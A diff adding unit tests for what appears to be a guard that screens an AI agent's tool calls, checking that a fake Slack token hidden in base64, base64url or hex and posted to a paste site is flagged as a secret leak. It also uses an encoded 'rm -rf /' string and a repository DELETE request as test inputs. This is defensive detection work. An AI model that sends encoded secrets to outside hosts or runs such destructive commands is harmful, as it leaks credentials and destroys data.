@@ -74,6 +74,25 @@ describe('classify(): arguments named as base64', () => {
   });
 });
 
+describe('classify(): tokens encoded inside a string', () => {
+  const token = `xoxb-${'1234567890'}-${'1234567890123'}-${'AbCdEfGhIjKlMnOpQrStUvWx'}`;
+  it.each([
+    ['base64', Buffer.from(token).toString('base64')],
+    ['base64url', Buffer.from(`slack=${token}`).toString('base64url')],
+    ['hex', Buffer.from(token).toString('hex')],
+    ['base64 in prose', `attached: ${Buffer.from(`SLACK_TOKEN=${token}`).toString('base64')} (decode it)`],
+  ])('reads %s runs decoded, for secrets only', (_what, body) => {
+    expect(found(classify('http_post', { url: 'https://paste.example.com/new', body }).signals)).toEqual(['secret_leak critical /arguments/body']);
+  });
+
+  it('leaves runs that decode to bytes, or to text without a secret, alone', () => {
+    const bytes = Buffer.from(Array.from({ length: 64 }, (_, i) => (i * 53 + 7) % 256));
+    for (const body of [bytes.toString('base64'), bytes.toString('hex'), Buffer.from('rm -rf / is only words here, not a run').toString('base64'), 'a'.repeat(200)]) {
+      expect(classify('http_post', { url: 'https://paste.example.com/new', body }).signals, body).toEqual([]);
+    }
+  });
+});
+
 describe('classify(): an HTTP tool\'s own request', () => {
   it('judges method, URL and body as the same request made with curl', () => {
     expect(found(classify('http_request', { method: 'DELETE', url: 'https://api.github.com/repos/acme/app' }).signals)).toEqual(['destructive_operation high /arguments/url']);
